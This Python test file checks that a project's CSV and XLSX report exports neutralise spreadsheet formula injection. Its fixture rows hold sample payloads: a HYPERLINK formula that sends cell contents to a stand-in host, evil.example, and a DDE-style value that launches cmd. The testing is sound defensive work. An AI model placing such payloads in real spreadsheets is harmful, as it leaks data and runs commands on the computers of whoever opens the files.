"""Exports never hand a spreadsheet a formula: free text that starts like one is written as text (CSV, XLSX)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from agent_desk.exports import csv_bytes, neutralise
from agent_desk.supervision import reports

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def report() -> dict:
    return {"title": "海南省12345热线月报（2026年3月）", "kind": "monthly", "sections": [
        {"title": "热点事项（前10）", "kind": "table", "columns": ["排名", "事项", "受理量", "占比"],
         "formats": ["int", "text", "int", "rate"],
         "rows": [[1, EVIL, 3, 0.5], [2, "+cmd|' /C calc'!A0", 2, 0.25], [3, "@SUM(A1)", 1, None],
                  [4, "供水排水", 1, 0.125]]}]}


def test_neutralise_prefixes_formula_starts_and_leaves_the_rest():
    for text in ("=1+1", "+1", "-cmd", "@x", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("供水排水") == "供水排水" and neutralise(3) == 3 and neutralise(None) is None
    assert neutralise(-0.5) == -0.5  # numbers are ours: an XLSX keeps them numbers


def test_a_topic_in_a_csv_report_is_text_not_a_formula():
    rows = list(csv.reader(io.StringIO(reports.to_csv(report()).decode("utf-8-sig"))))
    cells = [row[1] for row in rows if len(row) == 4 and row[0] in ("1", "2", "3", "4")]
    assert cells == ["'" + EVIL, "'+cmd|' /C calc'!A0", "'@SUM(A1)", "供水排水"]


def test_a_topic_in_an_xlsx_report_is_text_not_a_formula():
    book = load_workbook(io.BytesIO(reports.to_xlsx(report())))
    sheet = book.worksheets[0]
    values = [sheet.cell(row=r, column=2) for r in range(2, 6)]
    assert [c.data_type for c in values] == ["s"] * 4   # "f" would be a live formula
    assert values[0].value == "'" + EVIL
    assert sheet.cell(row=2, column=3).value == 3 and sheet.cell(row=2, column=4).value == 0.5  # numbers stay numbers


def test_csv_bytes_has_a_bom_and_neutralises_every_cell():
    data = csv_bytes([["用户", "详情"], ["=evil", 5]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["用户", "详情"], ["'=evil", "5"]]
